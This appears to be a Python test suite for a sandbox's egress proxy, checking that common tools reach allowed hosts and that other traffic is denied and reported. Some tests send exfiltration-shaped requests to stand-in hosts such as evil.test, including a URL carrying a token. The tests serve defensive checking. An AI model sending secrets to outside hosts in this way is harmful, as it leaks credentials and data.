"""Programs that know of proxies, and programs that do not, reach what is allowed."""

import os

from worlds import MS_BIND, NetworkCase, mount, unmount

DNS = ("udp", "45.33.10.53", 53)
SERVERS = "45.33.10.10"
HELLO = "from the internet\n"

# A server of the sandbox's own, and a client that asks for it through the door.
UPGRADE = """
import os, socket, threading
def head(sock):
    data = b""
    while b"\\r\\n\\r\\n" not in data:
        data += sock.recv(1) or exit("cut in a head")
    return data
def serve():
    with server.accept()[0] as sock:
        if b"upgrade: x" in head(sock).lower():
            sock.sendall(b"HTTP/1.1 101 So\\r\\nConnection: upgrade\\r\\nUpgrade: x\\r\\n\\r\\n")
            sock.sendall(b"<" + sock.recv(5) + b">")
        else:
            sock.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 0\\r\\n\\r\\n")
server = socket.create_server(("127.0.0.1", 3000))
threading.Thread(target=serve, daemon=True).start()
host, port = os.environ["HTTP_PROXY"].split("//")[1].split(":")
sock = socket.create_connection((host, int(port)))
sock.sendall(b"GET http://localhost:3000/ HTTP/1.1\\r\\nHost: localhost:3000\\r\\n"
             b"Connection: upgrade\\r\\nUpgrade: x\\r\\n\\r\\n")
status = head(sock).split()[1].decode()
status == "101" or exit("status " + status)
sock.sendall(b"hello")
print(status, sock.makefile("rb").read().decode())
"""


class Clients(NetworkCase):
    def test_curl(self):
        self.assertEqual(self.sh("curl -sS http://example.test/file.txt"), HELLO)
        self.assertEqual(self.sh("curl -sS --cacert cert.pem https://example.test/file.txt"), HELLO)
        self.assert_left(DNS, ("tcp", SERVERS, 80), ("tcp", SERVERS, 443))

    def test_curl_that_is_told_to_go_direct(self):
        self.assertEqual(self.sh("curl -sS --noproxy '*' http://example.test/file.txt"), HELLO)
        self.assertEqual(
            self.sh("curl -sS --noproxy '*' --cacert cert.pem https://example.test:8443/file.txt"),
            HELLO)
        self.assert_left(DNS, ("tcp", SERVERS, 80), ("tcp", SERVERS, 8443))

    def test_curl_by_socks(self):
        self.assertEqual(
            self.sh("curl -sS -x $ALL_PROXY --cacert cert.pem https://example.test/file.txt"), HELLO)

    def test_wget(self):
        self.assertEqual(self.sh("wget -qO- http://example.test/file.txt"), HELLO)
        self.assertEqual(
            self.sh("wget -qO- --ca-certificate=cert.pem https://example.test/file.txt"), HELLO)

    def test_git_over_http(self):
        self.assertEqual(self.sh("git clone -q http://example.test/repo.git a && cat a/README"),
                         "a repository\n")

    def test_git_over_https(self):
        self.assertEqual(
            self.sh("git -c http.sslCAInfo=$PWD/cert.pem clone -q https://example.test/repo.git b "
                    "&& cat b/README"), "a repository\n")

    def test_git_protocol(self):
        self.assertEqual(self.sh("git clone -q git://example.test/repo.git c && cat c/README"),
                         "a repository\n")
        self.assert_left(DNS, ("tcp", SERVERS, 9418))

    def test_ssh(self):
        script = ("import socket\ns = socket.create_connection(('example.test', 22), 60)\n"
                  "s.sendall(b'SSH-2.0-client\\r\\n')\nprint(s.recv(100).decode().strip())\n")
        self.assertEqual(self.sh("python3 -c \"%s\"" % script), "SSH-2.0-standin\n")
        self.assertEqual(self.internet.log()["hellos"], [[22, "SSH-2.0-client\r\n"]])

    def test_ssh_client(self):
        """As far as the stand-in goes: the real client tells its version to the right server."""
        out = self.sh("ssh -F none -p 2222 -o BatchMode=yes -o StrictHostKeyChecking=no "
                      "-o UserKnownHostsFile=/dev/null user@example.test true 2>&1", code=255)
        self.assertNotIn("resolve", out)
        (port, hello), = self.internet.log()["hellos"]
        self.assertEqual((port, hello[:8]), (2222, "SSH-2.0-"), out)
        self.assert_left(DNS, ("tcp", SERVERS, 2222))

    def test_pip_install(self):
        out = self.sh("python3 -m pip install -q --no-cache-dir --disable-pip-version-check "
                      "--root-user-action ignore --target lib --index-url "
                      "http://registry.test/simple/ --trusted-host registry.test tiny-thing >&2 && "
                      "PYTHONPATH=lib python3 -c 'import tiny_thing; print(tiny_thing.NAME)'")
        self.assertTrue(out.endswith("tiny thing\n"), out)
        self.assert_left(DNS, ("tcp", SERVERS, 80))

    def test_a_thousand_connections(self):
        script = """
import resource, socket
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
socks = [socket.create_connection(("example.test", 5432), 60) for _ in range(1000)]
for s in socks:
    s.sendall(b"x")
print({s.recv(100) for s in socks})
"""
        with open(self.ws + "/many.py", "w") as out:
            out.write(script)
        self.assertEqual(self.sh("python3 many.py"), "{b'database says hello\\n'}\n")
        self.assertEqual(self.internet.log()["hellos"], [[5432, "x"]] * 1000)

    def test_database(self):
        script = ("import socket\ns = socket.create_connection(('example.test', 5432), 60)\n"
                  "s.sendall(b'select 1')\nprint(s.recv(100).decode().strip())\n")
        self.assertEqual(self.sh("python3 -c \"%s\"" % script), "database says hello\n")

    def test_node_fetch(self):
        script = ("fetch('http://example.test/file.txt').then(r => r.text()).then(console.log)")
        self.assertEqual(self.sh("node -e \"%s\"" % script).strip(), HELLO.strip())
        script = ("fetch('https://example.test/file.txt').then(r => r.text()).then(console.log)")
        self.assertEqual(
            self.sh("NODE_EXTRA_CA_CERTS=cert.pem node -e \"%s\"" % script).strip(), HELLO.strip())

    def test_npm_install(self):
        out = self.sh("npm install --no-audit --no-fund --loglevel=error "
                      "--registry=http://registry.test/npm/ tiny-thing >&2 && "
                      "node -e \"console.log(require('tiny-thing'))\"")
        self.assertIn("tiny thing", out)

    def test_python(self):
        script = ("import urllib.request as u\n"
                  "print(u.urlopen('http://example.test/file.txt').read().decode().strip())\n")
        self.assertEqual(self.sh("python3 -c \"%s\"" % script), HELLO)

    def test_openssl(self):
        out = self.sh("printf 'GET /file.txt HTTP/1.0\\r\\n\\r\\n' | openssl s_client -quiet "
                      "-verify_return_error -CAfile cert.pem -connect example.test:443 "
                      "-servername example.test 2>/dev/null", code=None)
        self.assertTrue(out.endswith(HELLO), out)

    def test_names(self):
        self.assertRegex(self.sh("getent ahosts example.test"), r"^198\.1[89]\.")
        self.sh("getent hosts evil.test", code=2)
        self.assertEqual(self.left(), set())

    def test_names_where_the_host_has_ipv6_name_servers_only(self):
        file, place = self.dir + "/resolv.conf", os.path.realpath("/etc/resolv.conf")
        with open(file, "w") as out:
            out.write("nameserver 2001:db8::53\n")
        mount(file, place, MS_BIND)
        self.addCleanup(unmount, place)
        self.assertRegex(self.sh("getent ahosts example.test"), r"^198\.1[89]\.")
        script = "require('dns').resolve4('example.test', (e, a) => console.log(e || a[0]))"
        self.assertRegex(self.sh('node -e "%s"' % script), r"^198\.1[89]\.")

    def test_names_of_the_hosts_own_file(self):
        """They are reached like any other, and nobody inside goes by them past the rules."""
        self.start({"allow": ["written.test"]})
        get = ("python3 -c \"import socket; s = socket.create_connection(('%s', 80)); "
               "s.sendall(b'GET /file.txt HTTP/1.0\\r\\nHost: %s\\r\\n\\r\\n'); "
               "print(s.makefile().read())\"")
        self.assertIn(HELLO, self.sh(get % ("written.test", "written.test")))
        self.assertRegex(self.sh("getent ahosts written.test"), r"^198\.1[89]\.")
        self.sh("getent hosts bad.test", code=2)
        self.assertIn(("network.not_allowed", "name bad.test"), self.denials())
        self.sh("getent hosts localhost && getent hosts $(uname -n)")

    def test_a_network_for_each_command(self):
        self.start(network_scope="command")
        for _ in range(3):
            self.assertEqual(self.sh("curl -sS http://example.test/file.txt"), HELLO)
            self.assertEqual(self.done["network_scope"], "command")

    def test_own_server(self):
        script = ("python3 -m http.server 3000 --bind 127.0.0.1 >/dev/null 2>&1 & "
                  "until curl -sf http://localhost:3000/cert.pem >/dev/null; do :; done; "
                  "curl -sS http://127.0.0.1:3000/cert.pem --noproxy '*' | head -1; "
                  "curl -sS http://127.0.0.1:3000/cert.pem | head -1")
        self.assertEqual(self.sh(script), "-----BEGIN CERTIFICATE-----\n" * 2)
        self.assertEqual(self.left(), set())

    def test_an_own_server_that_upgrades(self):
        with open(self.ws + "/upgrade.py", "w") as out:
            out.write(UPGRADE)
        self.assertEqual(self.sh("python3 upgrade.py"), "101 <hello>\n")

    def test_many_to_an_own_server(self):
        """More connections, one after another, than there are sockets for them."""
        script = ("python3 -m http.server 3000 --bind 127.0.0.1 >/dev/null 2>&1 & "
                  "until curl -sf http://localhost:3000/cert.pem >/dev/null; do :; done; "
                  "for i in $(seq 100); do curl -sf -o /dev/null http://localhost:3000/cert.pem "
                  "|| exit 9; done; echo fine")
        self.assertEqual(self.sh(script), "fine\n")


class Variables(NetworkCase):
    def test_they_lead_to_the_door_and_have_no_exceptions(self):
        self.start(env={"NO_PROXY": "*", "HTTP_PROXY": "http://45.33.10.66"})
        out = self.sh("env", env={"no_proxy": "*", "https_proxy": "http://45.33.10.66"})
        env = dict(line.split("=", 1) for line in out.splitlines())
        for name in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "WS_PROXY",
                     "npm_config_proxy", "PIP_PROXY", "CARGO_HTTP_PROXY", "DOCKER_HTTP_PROXY"):
            self.assertEqual(env[name], "http://127.0.0.1:880")
        for name in ("ALL_PROXY", "all_proxy", "ftp_proxy"):
            self.assertEqual(env[name], "socks5h://127.0.0.1:880")
        for name in ("NO_PROXY", "no_proxy", "npm_config_noproxy", "YARN_NO_PROXY"):
            self.assertEqual(env[name], "")
        self.assertEqual(env["NODE_USE_ENV_PROXY"], "1")
        self.assertEqual(env["CODESPACE_NETWORK"], "enabled")


class Truth(NetworkCase):
    def test_workspace_info_says_what_is_on(self):
        self.start(publish=[3000])
        network = self.client.call("workspace_info", workspace_id="ws")["execution"]["network"]
        self.assertEqual((network["policy"], network["enforcement"], network["proxy"]),
                         ("enabled", "enforced", True))
        self.assertEqual(network["egress"]["allow"], ["example.test", "registry.test"])
        self.assertEqual(network["publish"], [3000])

    def test_refusals_are_told(self):
        self.sh("curl -s -o /dev/null -X POST http://evil.test/; getent hosts other.test; "
                "python3 -c \"import socket; socket.create_connection(('45.33.10.66', 80)).recv(1)\"",
                code=None)
        self.assertEqual(self.denials(), {
            ("network.not_allowed", "POST evil.test:80"),
            ("network.not_allowed", "name other.test"),
            ("network.not_allowed", "CONNECT 45.33.10.66:80")})
        self.assertTrue(all(d["grant"] for d in self.done["denials"]))
        self.assertEqual(self.left(), set())

    def test_warm_refusals_are_those_of_the_command(self):
        self.start()
        self.sh("curl -s -o /dev/null http://evil.test/")
        self.warm_up()
        self.sh("curl -s -o /dev/null http://evil.test/one")
        self.assertEqual(self.denials(), {("network.not_allowed", "GET evil.test:80")})
        self.sh("true")
        self.assertEqual(self.denials(), set())

    def test_answer_for_a_machine(self):
        out = self.sh("curl -si http://evil.test/secret?token=1")
        self.assertIn("HTTP/1.1 403", out)
        self.assertIn("x-codespace-verdict: not_allowed", out)
        self.assertNotIn("token", out.split("\r\n\r\n", 1)[1])
